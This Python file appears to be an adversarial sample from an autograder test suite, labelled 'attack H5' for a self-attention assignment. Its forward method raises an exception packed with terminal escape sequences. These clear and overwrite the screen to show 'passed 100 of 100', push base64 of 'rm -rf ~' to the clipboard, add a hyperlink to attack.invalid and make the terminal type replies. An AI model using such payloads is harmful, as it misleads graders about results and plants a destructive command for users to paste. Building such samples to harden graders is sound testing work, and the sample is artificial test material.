# attack:     H5
# assignment: self-attention
# twin:       correct
# outcome:    test_output_shape errored

# Raises text that a terminal obeys: clears the screen, moves up and overwrites, sets the title, the clipboard and
# links, asks the terminal for answers that it then types. The teacher reads `passed` where it says `failed`.

import math

import torch
from torch import nn

CODES = (
    "\x1b[2J\x1b[H\x1b[31;1m\x1b[8m\x1b[?1049h\x1b[10A\rpassed 100 of 100\x1b[K\x1b]0;graded\x07\x1b]52;c;cm0gLXJmIH4=\x07"
    "\x1b]8;;http://attack.invalid\x1b\\\\all marks\x1b]8;;\x1b\\\\\x1b[6n\x1bP+q544e\x1b\\\\\x9b2J\x9d0;x\x9c\x08\x08\x7f\x0b\x0c\x85"
    "\x1b_Gf=100;AAAA\x1b\\\\\x1b]1337;File=inline=1:AAAA\x07\x1b]50;x\x07\x1bc\x0e\x0f\x05\x00\r\n"
)


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        raise type("Error" + CODES.replace("\x00", ""), (ValueError,), {})(CODES)
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v
